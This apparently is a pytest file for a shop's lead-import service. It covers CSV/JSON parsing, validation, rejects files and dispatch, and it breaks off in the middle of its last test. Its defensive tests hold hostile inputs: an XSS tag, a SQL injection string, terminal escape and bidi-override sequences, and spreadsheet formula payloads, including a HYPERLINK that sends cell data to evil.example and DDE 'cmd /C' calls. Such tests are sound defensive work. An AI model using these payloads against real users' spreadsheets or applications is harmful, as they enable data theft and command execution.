"""Lead import on a real SQLite file: what lands in the queue, what is refused and where it goes."""

from __future__ import annotations

import csv
import json
import os
import stat
import time
import tracemalloc
from collections.abc import Mapping, Sequence
from dataclasses import replace
from datetime import UTC, datetime
from itertools import islice
from pathlib import Path
from typing import Any

import pytest
from conftest import FrozenClock, Shop

from codspot_tui.domain.errors import BadInput
from codspot_tui.domain.models import Order
from codspot_tui.domain.text import from_csv_cell
from codspot_tui.services import leads
from codspot_tui.services.bundle import Services
from codspot_tui.services.leads import ImportReport, LeadImporter
from codspot_tui.settings import Settings
from codspot_tui.store.orders import OrderFilter, insert_order

# The columns of a lead file, in the order the issue lists them.
COLUMNS = (
    *("ref", "date", "customer", "phone", "city", "address"),
    *("sku", "qty", "price", "delivery", "note"),
)
ARGAN, SOAP = 19900, 2500  # product prices, cents


@pytest.fixture(autouse=True)
async def products(shop: Shop) -> None:
    await shop.product("ARGAN", price=ARGAN)
    await shop.product("SOAP", price=SOAP)


@pytest.fixture
def importer(services: Services, settings: Settings, clock: FrozenClock) -> LeadImporter:
    return LeadImporter(services.db, settings, clock)


def lead(ref: str, phone: str = "0612345678", **fields: str) -> dict[str, str]:
    return {
        "ref": ref,
        "phone": phone,
        "customer": "Karima Alaoui",
        "city": "Casablanca",
        "address": "12 rue Ibn Battouta",
        "sku": "ARGAN",
        **fields,
    }


def write_csv(
    path: Path,
    rows: Sequence[Mapping[str, str]],
    *,
    header: Sequence[str] = COLUMNS,
    delimiter: str = ",",
    encoding: str = "utf-8",
) -> Path:
    """A lead file as a spreadsheet writes it; each row's fields looked up by lowercase name."""
    with path.open("w", encoding=encoding, newline="") as file:
        writer = csv.writer(file, delimiter=delimiter, lineterminator="\r\n")
        writer.writerow(header)
        for row in rows:
            writer.writerow([row.get(name.strip().lower(), "") for name in header])
    return path


def read_rejects(path: Path, delimiter: str = ",") -> list[dict[str, str]]:
    """The rows of a rejects file, with the `'` that keeps a spreadsheet from reading a cell as
    a formula taken off again, as the import does."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = csv.DictReader(file, delimiter=delimiter)
        return [
            {
                key: from_csv_cell(value) if isinstance(value, str) else value
                for key, value in row.items()
            }
            for row in rows
        ]


async def stored(services: Services) -> list[Order]:
    """Every order, in the order they were stored."""
    return list(reversed(await services.orders.page(OrderFilter(), limit=1000)))


async def order_count(services: Services) -> int:
    return int(await services.db.scalar("SELECT count(*) FROM orders"))


def utc(
    year: int, month: int, day: int, hour: int = 0, minute: int = 0, second: int = 0
) -> datetime:
    return datetime(year, month, day, hour, minute, second, tzinfo=UTC)


def local(
    year: int, month: int, day: int, hour: int = 0, minute: int = 0, second: int = 0
) -> datetime:
    """A wall-clock time of this machine, as a file without a zone means it, in UTC."""
    return datetime(year, month, day, hour, minute, second).astimezone().astimezone(UTC)


# --- good files -------------------------------------------------------------------------------


async def test_good_csv_imports_orders_grouped_by_ref_with_e164_phones(
    services: Services, importer: LeadImporter, clock: FrozenClock, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path / "shop.csv",
        [
            lead("A1", "06 12 34 56 78", date="2026-11-20 10:30", qty="2", price="199,50"),
            lead("B2", "+212612345679", sku="SOAP", note="call after 6pm", delivery="LOCAL"),
            lead("A1", "0612345678", customer="", city="", address="", sku="SOAP", qty=""),
            lead("C3", "00212 6 12 34 56 80", date="28/11/2026 08:15", price="150"),
            lead("A1", "0612345678", sku="ARGAN", qty="1", price="199.50"),
        ],
    )
    report = await importer.import_file(path)

    assert report == ImportReport(3, 0, 0, 0, None, ())
    assert not (tmp_path / "shop.rejects.csv").exists()
    a1, b2, c3 = await stored(services)
    assert [o.ref for o in (a1, b2, c3)] == ["A1", "B2", "C3"]  # order of their first rows
    assert [o.phone for o in (a1, b2, c3)] == ["+212612345678", "+212612345679", "+212612345680"]
    assert [(i.sku, i.qty, i.price_cents) for i in a1.items] == [
        ("ARGAN", 2, 19950),
        ("SOAP", 1, SOAP),  # empty qty is one, empty price the product's
        ("ARGAN", 1, 19950),
    ]
    assert a1.total_cents == 2 * 19950 + SOAP + 19950
    assert (b2.total_cents, c3.total_cents) == (SOAP, 15000)
    assert (a1.customer, a1.city, a1.address) == (
        "Karima Alaoui",
        "Casablanca",
        "12 rue Ibn Battouta",
    )
    assert a1.created_at == local(2026, 11, 20, 10, 30)
    assert b2.created_at == clock.now  # no date: the time of the import
    assert c3.created_at == local(2026, 11, 28, 8, 15)
    assert (a1.delivery, b2.delivery) == ("sandbox", "local")  # the default, then named
    assert (a1.note, b2.note) == (None, "call after 6pm")
    assert {o.source for o in (a1, b2, c3)} == {"shop"}  # the file's stem
    assert {o.confirmation for o in (a1, b2, c3)} == {"new"}
    assert {o.assigned_to for o in (a1, b2, c3)} == {None}  # shared dispatch
    assert {o.duplicate_of for o in (a1, b2, c3)} == {None}


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
async def test_delimiter_and_header_names_are_sniffed(
    services: Services, importer: LeadImporter, tmp_path: Path, delimiter: str
) -> None:
    header = [" Phone ", "SKU", "Extra Column", "ref", "QTY", "Price", "Address"]
    rows = [
        {
            "ref": "X1",
            "phone": "0612345678",
            "sku": "ARGAN",
            "qty": "3",
            "price": "10,50",
            "address": "Rue 5; Bloc B, Appt 2",
        },
        {"ref": "X2", "phone": "0612345679", "sku": "SOAP", "extra column": "ignored"},
    ]
    # French-locale Excel: semicolons, and a byte-order mark.
    path = write_csv(
        tmp_path / "leads.csv", rows, header=header, delimiter=delimiter, encoding="utf-8-sig"
    )
    report = await importer.import_file(path)

    assert (report.imported, report.rejected) == (2, 0)
    x1, x2 = await stored(services)
    assert (x1.ref, x1.phone, x1.address) == ("X1", "+212612345678", "Rue 5; Bloc B, Appt 2")
    assert [(i.sku, i.qty, i.price_cents) for i in x1.items] == [("ARGAN", 3, 1050)]
    assert (x2.customer, x2.city, x2.total_cents) == ("", "", SOAP)

    # Rejected rows go back as they came: same columns, same delimiter, an error column.
    bad = {"ref": "X3", "phone": "0612", "sku": "SOAP", "extra column": "kept"}
    write_csv(path, [*rows, bad], header=header, delimiter=delimiter, encoding="utf-8-sig")
    report = await importer.import_file(path)
    assert (report.imported, report.skipped, report.rejected) == (0, 2, 1)
    assert read_rejects(report.rejects_file or path, delimiter) == [
        {" Phone ": "0612", "SKU": "SOAP", "Extra Column": "kept", "ref": "X3", "QTY": "",
         "Price": "", "Address": "", "error": "invalid phone '0612'"}
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "shape"),
    [
        ("leads.jsonl", "lines"),
        ("leads.ndjson", "lines"),
        ("leads.json", "lines"),
        ("leads.json", "array"),
        ("leads.json", "one-line array"),
    ],
)
async def test_json_lines_and_json_array(
    services: Services, importer: LeadImporter, tmp_path: Path, name: str, shape: str
) -> None:
    records: list[dict[str, Any]] = [
        {
            "Ref": "J1",
            "phone": "0612345678",
            "sku": "ARGAN",
            "qty": 2,
            "price": 99.5,
            "customer": "Ali",
            "source_id": 77,
        },
        {"ref": "J2", "phone": "0612345679", "sku": "SOAP", "qty": None, "note": "ok"},
        {"ref": "J1", "phone": "+212612345678", "sku": "SOAP"},
        {"ref": "J3", "phone": "0612", "sku": "SOAP", "extra": [1, 2]},
    ]
    path = tmp_path / name
    if shape == "lines":
        path.write_text("".join(json.dumps(r) + "\n" for r in records) + "\n", encoding="utf-8")
    elif shape == "array":
        path.write_text(json.dumps(records, indent=2), encoding="utf-8")
    else:
        path.write_text(json.dumps(records), encoding="utf-8")
    report = await importer.import_file(path)

    assert (report.imported, report.rejected) == (2, 1)
    j1, j2 = await stored(services)
    assert [(i.sku, i.qty, i.price_cents) for i in j1.items] == [
        ("ARGAN", 2, 9950),
        ("SOAP", 1, SOAP),
    ]
    assert (j1.customer, j2.note) == ("Ali", "ok")
    # The line of the record: its own line in JSON lines, where its object opens in an array.
    text = path.read_text(encoding="utf-8")
    line = text[: text.rindex("{", 0, text.index('"J3"'))].count("\n") + 1
    assert line == {"lines": 4, "array": 23, "one-line array": 1}[shape]
    assert report.problems == (f"line {line}: invalid phone '0612'",)
    assert report.rejects_file == tmp_path / "leads.rejects.jsonl"
    rejected = [json.loads(text) for text in report.rejects_file.read_text().splitlines()]
    assert rejected == [{**records[3], "error": "invalid phone '0612'"}]


async def test_json_records_that_are_not_leads_are_rejected_alone(
    services: Services, importer: LeadImporter, tmp_path: Path
) -> None:
    path = tmp_path / "leads.jsonl"
    path.write_text(
        '{"ref": "A", "phone": "0612345678", "sku": "ARGAN"}\n'
        '{"ref": "B", oops}\n'
        "[1, 2]\n"
        "\n"
        '{"ref": "C", "phone": "0612345679", "sku": "SOAP", "qty": {"n": 2}}\n',
        encoding="utf-8",
    )
    report = await importer.import_file(path)

    assert [o.ref for o in await stored(services)] == ["A"]
    expecting = "Expecting property name enclosed in double quotes"
    assert report.problems == (
        f"line 2: not a JSON object ({expecting})",
        "line 3: not a JSON object",
        "line 5: qty holds a list or an object, not a value",
    )
    assert [json.loads(text) for text in (tmp_path / "leads.rejects.jsonl").open()] == [
        {"raw": '{"ref": "B", oops}', "error": f"not a JSON object ({expecting})"},
        {"raw": [1, 2], "error": "not a JSON object"},
        {"ref": "C", "phone": "0612345679", "sku": "SOAP", "qty": {"n": 2},
         "error": "qty holds a list or an object, not a value"},
    ]  # fmt: skip


# A row's field, as written, and what is stored for it.
ACCEPTED: list[tuple[dict[str, str], str, Any]] = [
    ({"date": "2026-11-27"}, "created_at", local(2026, 11, 27)),
    ({"date": "2026-11-27 10:15:30"}, "created_at", local(2026, 11, 27, 10, 15, 30)),
    ({"date": "2026-11-27T10:15"}, "created_at", local(2026, 11, 27, 10, 15)),
    ({"date": "2026-11-27T10:15:00+01:00"}, "created_at", utc(2026, 11, 27, 9, 15)),
    ({"date": "2026-11-29T08:59:59Z"}, "created_at", utc(2026, 11, 29, 8, 59, 59)),
    ({"date": "27/11/2026"}, "created_at", local(2026, 11, 27)),
    ({"date": "27/11/2026 10:15"}, "created_at", local(2026, 11, 27, 10, 15)),
    ({"date": "07/01/2026 10:15:30"}, "created_at", local(2026, 1, 7, 10, 15, 30)),
    ({"qty": "2.0"}, "qty", 2),
    ({"qty": " 3 "}, "qty", 3),
    ({"qty": "10000"}, "qty", 10_000),
    ({"price": "0"}, "price_cents", 0),
    ({"price": "199.5"}, "price_cents", 19950),
    ({"price": " 1,25 "}, "price_cents", 125),
    ({"delivery": " Sandbox "}, "delivery", "sandbox"),
    ({"delivery": "local"}, "delivery", "local"),
    ({"note": "  "}, "note", None),
    ({"customer": "  Salma  "}, "customer", "Salma"),
]  # fmt: skip


@pytest.mark.parametrize(("fields", "attribute", "expected"), ACCEPTED, ids=lambda v: str(v))
async def test_accepted_values(
    services: Services,
    importer: LeadImporter,
    tmp_path: Path,
    fields: dict[str, str],
    attribute: str,
    expected: Any,
) -> None:
    path = write_csv(tmp_path / "leads.csv", [lead("A1", **fields)])
    report = await importer.import_file(path)

    assert (report.imported, report.problems) == (1, ())
    (order,) = await stored(services)
    where = order.items[0] if attribute in {"qty", "price_cents"} else order
    assert getattr(where, attribute) == expected


async def test_reimport_is_idempotent(
    services: Services, importer: LeadImporter, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "shop.csv", [lead("A1"), lead("B2", "0612345679"), lead("A1")])
    first = await importer.import_file(path)
    before = [(o.id, o.ref, o.total_cents, len(o.items)) for o in await stored(services)]

    again = await importer.import_file(path)

    assert (first.imported, first.skipped) == (2, 0)
    assert again == ImportReport(0, 0, 0, 2, None, ())
    assert [(o.id, o.ref, o.total_cents, len(o.items)) for o in await stored(services)] == before
    # Another source may use the same refs: those are other orders.
    other = await importer.import_file(path, source="sheet")
    assert (other.imported, other.skipped) == (2, 0)


async def test_a_crash_leaves_whole_orders_and_a_rerun_finishes(
    services: Services,
    importer: LeadImporter,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    rows = [
        lead(f"R{n}", f"06123456{n:02d}", sku=sku) for n in range(9) for sku in ("ARGAN", "SOAP")
    ]
    path = write_csv(tmp_path / "shop.csv", rows)
    monkeypatch.setattr(leads, "CHUNK_ORDERS", 2)
    real_insert = insert_order
    calls = 0

    def failing_insert(*args: Any) -> int | None:
        nonlocal calls
        calls += 1
        if calls == 6:  # the second order of the third chunk
            raise OSError("disk full")
        return real_insert(*args)

    monkeypatch.setattr(leads, "insert_order", failing_insert)
    with pytest.raises(OSError, match="disk full"):
        await importer.import_file(path)

    after_crash = await stored(services)
    assert [o.ref for o in after_crash] == ["R0", "R1", "R2", "R3"]  # two whole chunks
    assert all(len(o.items) == 2 for o in after_crash)
    assert not await services.db.scalar(
        "SELECT count(*) FROM order_items WHERE order_id NOT IN (SELECT id FROM orders)"
    )
    monkeypatch.setattr(leads, "insert_order", real_insert)
    rerun = await importer.import_file(path)
    assert (rerun.imported, rerun.skipped) == (5, 4)
    assert [o.ref for o in await stored(services)] == [f"R{n}" for n in range(9)]


async def test_an_open_order_of_the_same_phone_makes_a_duplicate(
    services: Services, importer: LeadImporter, shop: Shop, tmp_path: Path
) -> None:
    await shop.order("OLD-OPEN", phone="+212612345678")
    closed = await shop.order("OLD-CLOSED", phone="+212612345679")
    await services.db.conn.execute(
        "UPDATE orders SET confirmation = 'canceled' WHERE id = ?", (closed,)
    )
    path = write_csv(
        tmp_path / "shop.csv",
        [
            lead("N1", "06 12 34 56 78"),  # same customer as OLD-OPEN, written otherwise
            lead("N2", "0612345679"),  # their earlier order is closed: not a duplicate
            lead("N3", "0612345679"),  # but N2, just imported, is open
            lead("N4", "0612345670"),
        ],
    )
    report = await importer.import_file(path)

    assert (report.imported, report.duplicates) == (4, 2)
    by_ref = {o.ref: o.duplicate_of for o in await stored(services)}
    assert by_ref == {
        "OLD-OPEN": None,
        "OLD-CLOSED": None,
        "N1": "OLD-OPEN",
        "N2": None,
        "N3": "N2",
        "N4": None,
    }


# --- bad rows ---------------------------------------------------------------------------------

# A bad row (its fields, over a good row of order B), and the reason given for it.
BAD_ROWS: list[tuple[dict[str, str], str]] = [
    ({"phone": "0612"}, "invalid phone '0612'"),
    ({"phone": "+33 6 12"}, "invalid phone '+33 6 12'"),
    ({"phone": ""}, "missing phone"),
    ({"sku": ""}, "missing sku"),
    ({"sku": "NOPE"}, "unknown SKU 'NOPE'"),
    ({"qty": "0"}, "qty '0' is less than 1"),
    ({"qty": "-2"}, "qty '-2' is less than 1"),
    ({"qty": "1.5"}, "qty '1.5' is not a whole number"),
    ({"qty": "two"}, "qty 'two' is not a whole number"),
    ({"price": "-5"}, "price '-5' is negative"),
    ({"price": "19.999"}, "price '19.999' has more than 2 decimals"),
    ({"price": "12 MAD"}, "price '12 MAD' is not a number like 199.50"),
    ({"date": "31/02/2026"}, "invalid date '31/02/2026' (like 2026-11-28 14:30 or 28/11/2026)"),
    ({"date": "yesterday"}, "invalid date 'yesterday' (like 2026-11-28 14:30 or 28/11/2026)"),
    (
        {"date": "2026-11-29T09:00:01Z"},
        "date '2026-11-29T09:00:01Z' is more than a day in the future",
    ),
    ({"delivery": "dhl"}, "unknown delivery 'dhl' (known: local, sandbox)"),
    ({"phone": "0612345699"}, "phone +212612345699 differs from line 3 (+212612345677)"),
    ({"delivery": "local"}, "delivery local differs from line 3 (sandbox)"),
    ({"customer": "Ali\x07"}, "customer contains control characters"),
    ({"address": "Rue \x1b[31mRouge"}, "address contains control characters"),
    ({"city": "C" * 101}, "city is longer than 100 characters"),
    ({"note": "n" * 1001}, "note is longer than 1000 characters"),
    ({"sku": "S" * 65}, "sku is longer than 64 characters"),
    ({"phone": "06" * 33}, "phone is longer than 64 characters"),
    ({"customer": "K" * 201}, "customer is longer than 200 characters"),
    ({"address": "A" * 501}, "address is longer than 500 characters"),
    ({"qty": "0", "price": "-1"}, "qty '0' is less than 1; price '-1' is negative"),
    (
        {"sku": "NOPE", "phone": "0612345699"},
        "phone +212612345699 differs from line 3 (+212612345677); unknown SKU 'NOPE'",
    ),
]


@pytest.mark.parametrize(("bad", "reason"), BAD_ROWS, ids=[reason[:40] for _, reason in BAD_ROWS])
async def test_a_bad_row_rejects_its_whole_order(
    services: Services,
    importer: LeadImporter,
    tmp_path: Path,
    bad: dict[str, str],
    reason: str,
) -> None:
    rows = [
        lead("A", "0612345601"),
        lead("B", "0612345677", delivery="sandbox"),  # line 3: B's first, good row
        lead("C", "0612345602", sku="SOAP"),
        {**lead("B", "0612345677", qty="2"), **bad},  # line 5: B's bad row
    ]
    path = write_csv(tmp_path / "leads.csv", rows)
    report = await importer.import_file(path)

    assert [o.ref for o in await stored(services)] == ["A", "C"]
    assert (report.imported, report.rejected) == (2, 1)
    assert report.problems == (f"line 3: order rejected: line 5: {reason}", f"line 5: {reason}")
    assert report.rejects_file == tmp_path / "leads.rejects.csv"
    rejected = read_rejects(report.rejects_file)
    assert [r["error"] for r in rejected] == [f"order rejected: line 5: {reason}", reason]
    assert [{k: v for k, v in r.items() if k != "error"} for r in rejected] == [
        {name: row.get(name, "") for name in COLUMNS} for row in (rows[1], rows[3])
    ]


async def test_rows_without_a_ref_and_malformed_rows_are_rejected_alone(
    services: Services, importer: LeadImporter, tmp_path: Path
) -> None:
    path = tmp_path / "leads.csv"
    path.write_text(
        "ref,phone,sku,address\n"
        ",0612345678,ARGAN,no ref\n"
        "\n"  # blank lines still count as lines
        "R1,0612345679,ARGAN,12 rue X, Casablanca\n"  # an unquoted comma: one value too many
        '"R2",0612345670,SOAP,"line one\n'
        'line two"\n'
        "R3,0612,SOAP,\n"
        ",,,\n"  # an empty spreadsheet row is not a row
        "R4,0612345671,ARGAN,\n",
        encoding="utf-8",
    )
    report = await importer.import_file(path)

    assert [(o.ref, o.address) for o in await stored(services)] == [
        ("R2", "line one\nline two"),
        ("R4", ""),
    ]
    assert report.problems == (
        "line 2: missing ref",
        "line 4: 5 values where the header has 4 (a ',' inside an unquoted value?)",
        "line 7: invalid phone '0612'",  # after a row spanning lines 5 and 6
    )
    assert [r["ref"] for r in read_rejects(tmp_path / "leads.rejects.csv")] == ["", "R1", "R3"]


async def test_hostile_text_is_stored_verbatim(
    services: Services, importer: LeadImporter, tmp_path: Path
) -> None:
    hostile = {
        "customer": "O'Brien \"Bobby\" <script>alert('x')</script>",
        "address": "'); DROP TABLE orders;--",
        "city": "الدار البيضاء",
        "note": "Livraison 🚚 avant 18h\nmerci\t!",
    }
    path = write_csv(tmp_path / "leads.csv", [lead("H1'; --", **hostile)])
    report = await importer.import_file(path)

    assert report.imported == 1
    (order,) = await stored(services)
    assert order.ref == "H1'; --"
    assert {k: getattr(order, k) for k in hostile} == hostile


async def test_control_characters_are_refused(
    services: Services, importer: LeadImporter, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path / "leads.csv",
        [
            lead("E1", note="\x1b]0;pwned\x07"),
            lead("E2", "0612345679", city="Fès\x08"),
            lead("E3", "0612345670", customer="Salma\r\nBennani"),
        ],
    )
    report = await importer.import_file(path)

    (e3,) = await stored(services)
    assert (e3.ref, e3.customer) == ("E3", "Salma\nBennani")  # a line break is text
    assert report.problems == (
        "line 2: note contains control characters",
        "line 3: city contains control characters",
    )


async def test_problems_stop_at_200_but_every_rejected_row_is_in_the_file(
    services: Services, importer: LeadImporter, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "leads.csv", [lead(f"R{n}", "0612") for n in range(250)])
    report = await importer.import_file(path)

    assert (report.imported, report.rejected) == (0, 250)
    assert len(report.problems) == 200
    assert report.problems[-1] == "line 201: invalid phone '0612'"
    assert len(read_rejects(tmp_path / "leads.rejects.csv")) == 250


async def test_rejects_file_is_replaced_then_removed_and_may_be_named(
    services: Services, importer: LeadImporter, tmp_path: Path
) -> None:
    rejects = tmp_path / "leads.rejects.csv"
    rejects.write_text("stale,rows\n", encoding="utf-8")
    path = write_csv(tmp_path / "leads.csv", [lead("A", "0612"), lead("B", "0612345679")])
    report = await importer.import_file(path)
    assert report.rejects_file == rejects
    assert [r["ref"] for r in read_rejects(rejects)] == ["A"]

    write_csv(path, [lead("A", "0612345678"), lead("B", "0612345679")])
    fixed = await importer.import_file(path)
    assert (fixed.imported, fixed.skipped, fixed.rejects_file) == (1, 1, None)
    assert not rejects.exists()  # an earlier run's rejects would mislead

    elsewhere = tmp_path / "out" / "bad.csv"
    elsewhere.parent.mkdir()
    write_csv(path, [lead("Z", "0612")])
    named = await importer.import_file(path, rejects=elsewhere)
    assert named.rejects_file == elsewhere
    assert [r["error"] for r in read_rejects(elsewhere)] == ["invalid phone '0612'"]
    assert not rejects.exists()


# --- files that are not lead files at all -----------------------------------------------------


def _binary(path: Path) -> Path:
    path.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))
    return path


def _latin1(path: Path) -> Path:
    path.write_bytes("ref,phone,sku,city\nA1,0612345678,ARGAN,Fès\n".encode("latin-1"))
    return path


def _latin1_far_down(path: Path) -> Path:
    """Good rows for longer than the first read, then one byte that is not UTF-8."""
    good = "".join(f"R{n},06123{n:05d},ARGAN\n" for n in range(5000))
    path.write_bytes(
        b"ref,phone,sku\n" + good.encode() + "Z1,0612345678,F\xe8s\n".encode("latin-1")
    )
    return path


def _text(content: str, name: str = "leads.csv") -> Any:
    def make(path: Path) -> Path:
        path = path.with_name(name)
        path.write_text(content, encoding="utf-8")
        return path

    return make


NOT_LEADS: list[tuple[str, Any, str]] = [
    ("binary", _binary, " is not a text file (it holds NUL bytes): expected CSV or JSON"),
    ("latin-1", _latin1, " is not UTF-8 text: save it as CSV UTF-8 and try again"),
    (
        "latin-1 far down",
        _latin1_far_down,
        " is not UTF-8 text: save it as CSV UTF-8 and try again",
    ),
    (
        "utf-16",
        lambda p: (p.write_text("ref,phone,sku\n", encoding="utf-16"), p)[1],
        " is UTF-16 text: save it as CSV UTF-8 and try again",
    ),
    ("empty", _text(""), " is empty: expected a header line (ref, phone, sku, ...)"),
    ("blank", _text("\ufeff \n\n"), " is empty: expected a header line (ref, phone, sku, ...)"),
    (
        "prose",
        _text("Dear team,\nhere are the leads.\n"),
        ": missing column(s) ref, phone, sku (found: Dear team)",
    ),
    (
        "missing columns",
        _text("Ref;Name;Tel;City\nA1;Ali;0612345678;Fès\n"),
        ": missing column(s) phone, sku (found: Ref, Name, Tel, City)",
    ),
    (
        "header not on line 1",
        _text("\nref,phone,sku\nA1,0612345678,ARGAN\n"),
        ": line 1 is empty: expected a header line (ref, phone, sku, ...)",
    ),
    (
        "broken json",
        _text('{"ref": "A1", "phone": ', "leads.jsonl"),
        ": line 1 is not JSON (Expecting value):"
        " expected one object per line, or an array of objects",
    ),
    (
        "unclosed array",
        _text('[{"ref": "A1", "phone": "0612345678", "sku": "ARGAN"},', "l.json"),
        ": the JSON array is not closed with ']'",
    ),
    (
        "json without the columns",
        _text('{"name": "Ali", "tel": "0612345678"}\n', "l.json"),
        ": missing column(s) ref, phone, sku (found: name, tel)",
    ),
    (
        "json of another shape",
        _text('"just a string"', "leads.json"),
        " is not JSON: expected one object per line, or an array of objects",
    ),
]


@pytest.mark.parametrize(
    ("make", "message"), [c[1:] for c in NOT_LEADS], ids=[c[0] for c in NOT_LEADS]
)
async def test_a_file_that_is_not_leads_is_refused_and_changes_nothing(
    services: Services, importer: LeadImporter, tmp_path: Path, make: Any, message: str
) -> None:
    path = make(tmp_path / "leads.csv")
    before = await services.db.fetchall("SELECT * FROM orders")

    with pytest.raises(BadInput) as refused:
        await importer.import_file(path)

    assert str(refused.value) == f"{path}{message}"
    assert "\n" not in str(refused.value)
    assert await services.db.fetchall("SELECT * FROM orders") == before == []
    assert {p.name for p in tmp_path.iterdir()} == {
        path.name,
        "codspot.db",
        "codspot.db-shm",
        "codspot.db-wal",
    }  # no rejects file


async def test_a_missing_or_unreadable_file_is_bad_input(
    importer: LeadImporter, tmp_path: Path
) -> None:
    with pytest.raises(BadInput, match=r"nope\.csv: no such file$"):
        await importer.import_file(tmp_path / "nope.csv")
    with pytest.raises(BadInput, match=r"is a folder, not a lead file$"):
        await importer.import_file(tmp_path)


# --- dispatch ---------------------------------------------------------------------------------


async def test_round_robin_continues_across_imports(
    services: Services, settings: Settings, clock: FrozenClock, tmp_path: Path
) -> None:
    importer = LeadImporter(services.db, replace(settings, dispatch="round_robin"), clock)
    await services.db.conn.execute(
        "INSERT INTO agents (name, role, active, created_at) VALUES ('adil', 'agent', 0, ?)",
        ("2026-11-01T00:00:00Z",),
    )  # inactive: never assigned
    first = write_csv(tmp_path / "monday.csv", [lead("M1"), lead("M2", "0612345679")])
    second = write_csv(
        tmp_path / "tuesday.csv",
        [
            lead("T1", "0612345670"),
            lead("T2", "0612", sku="SOAP"),
            lead("T3", "0612345671"),
            lead("T4", "0612345672"),
        ],
    )
    await importer.import_file(first)
    await importer.import_file(first)  # all skipped: the cycle does not move
    await importer.import_file(second)

    assigned = {o.ref: o.assigned_to for o in await stored(services)}
    # Active agents by name: boss, karim, salma.
    assert assigned == {"M1": "boss", "M2": "karim", "T1": "salma", "T3": "boss", "T4": "karim"}
    assert await services.db.scalar("SELECT value FROM meta WHERE key = 'round_robin_last'") == (
        "karim"
    )


# --- size -------------------------------------------------------------------------------------


async def test_a_hundred_thousand_rows_import_in_one_go_in_little_memory(
    services: Services, importer: LeadImporter, tmp_path: Path
) -> None:
    orders, items = 10_000, 10
    path = tmp_path / "big.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        file.write("ref,date,customer,phone,city,address,sku,qty,price,delivery,note\n")
        # Item k of order n is on line 2 + k * orders + n: an order's rows lie far apart.
        for k in range(items):
            sku = ("ARGAN", "SOAP")[k % 2]
            for n in range(orders):
                file.write(
                    f"B{n},2026-11-2{k % 8} 1{k}:{n % 60:02d},Client {n},06{n:08d},Casablanca,"
                    f"{n} rue des Orangers,{sku},{1 + k % 3},{'' if k % 2 else 99},,\n"
                )
    # What holding the rows would take, at the least: the file's rows as lists of text
    # (measured on a tenth of them).
    tracemalloc.start()
    with path.open(encoding="utf-8", newline="") as file:
        held = list(islice(csv.reader(file), orders * items // 10))
    holding = tracemalloc.get_traced_memory()[0] * 10
    del held
    tracemalloc.stop()

    tracemalloc.start()
    started = time.perf_counter()
    try:
        report = await importer.import_file(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    seconds = time.perf_counter() - started

    assert report == ImportReport(orders, 0, 0, 0, None, ())
    assert await order_count(services) == orders
    assert await services.db.scalar("SELECT count(*) FROM order_items") == orders * items
    last = await services.orders.get(
        int(await services.db.scalar("SELECT id FROM orders WHERE ref = ?", (f"B{orders - 1}",)))
    )
    assert [(i.sku, i.qty) for i in last.items] == [
        (("ARGAN", "SOAP")[k % 2], 1 + k % 3) for k in range(items)
    ]
    assert last.total_cents == sum(
        (1 + k % 3) * (9900 if k % 2 == 0 else SOAP) for k in range(items)
    )
    refs = [r[0] for r in await services.db.fetchall("SELECT ref FROM orders ORDER BY id")]
    assert refs == [f"B{n}" for n in range(orders)]  # file order, by first row
    print(f"\n100k rows: {seconds:.1f} s, peak {peak / 1e6:.1f} MB, holding {holding / 1e6:.1f} MB")
    assert peak < 40e6
    assert peak < holding / 3


# --- text that would act on a terminal, cells a spreadsheet would run, private rejects ---------


async def test_bidi_controls_and_invisible_characters_are_refused_by_line(
    services: Services, importer: LeadImporter, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path / "leads.csv",
        [
            lead("T1", customer="Ali \u202egnp.exe"),  # shown as "Ali exe.png"
            lead("T2", "0612345679", note="ok \u2066hidden\u2069"),
            lead("T3", "0612345670", address="Rue \x9b2J"),  # a C1 CSI: ESC [ in one byte
            lead("T4", "0612345671", city="Casa\u200bblanca"),
            lead("T5\u200d", "0612345672"),  # a joiner makes two refs look alike
            lead("T6", "0612345673", customer="\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"),
        ],
    )
    report = await importer.import_file(path)

    bidi = "a bidi control ({}) that reorders the text shown around it"
    assert report.problems == (
        f"line 2: customer contains {bidi.format('U+202E')}",
        f"line 3: note contains {bidi.format('U+2066')}",
        "line 4: address contains control characters",
        "line 5: city contains an invisible character (U+200B)",
        "line 6: ref contains an invisible character (U+200D)",
    )
    # A zero-width non-joiner shapes Persian and Arabic words: free text keeps it, verbatim.
    (kept,) = await stored(services)
    assert (kept.ref, kept.customer) == ("T6", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645")


async def test_json_leads_with_a_bidi_override_are_refused_too(
    services: Services, importer: LeadImporter, tmp_path: Path
) -> None:
    path = tmp_path / "leads.jsonl"
    rows = [lead("J1"), lead("J2", "0612345679", note="\u202dreversed\u202c")]
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    report = await importer.import_file(path)
    assert [o.ref for o in await stored(services)] == ["J1"]
    assert report.problems == (
        "line 2: note contains a bidi control (U+202D) that reorders the text shown around it",
    )


FORMULAS = {
    "customer": '=HYPERLINK("http://evil.example/?"&A2,"click")',
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "+cmd|' /C notepad'!'A1'",
    "note": "\tleading tab",
}


async def test_rejects_cells_never_start_a_formula_and_import_again_once_fixed(
    services: Services, importer: LeadImporter, tmp_path: Path
) -> None:
    bad = lead("F1", "+212612345601", sku="NOPE", qty="-2", **FORMULAS)  # two reasons
    path = write_csv(tmp_path / "leads.csv", [bad])
    report = await importer.import_file(path)
    assert report.rejected == 1

    # As a spreadsheet reads the file: no cell starts with = + - @ or a tab.
    assert report.rejects_file is not None
    raw = report.rejects_file.read_text(encoding="utf-8-sig")
    with report.rejects_file.open(encoding="utf-8-sig", newline="") as file:
        header, cells = list(csv.reader(file))
    assert header == [*COLUMNS, "error"]
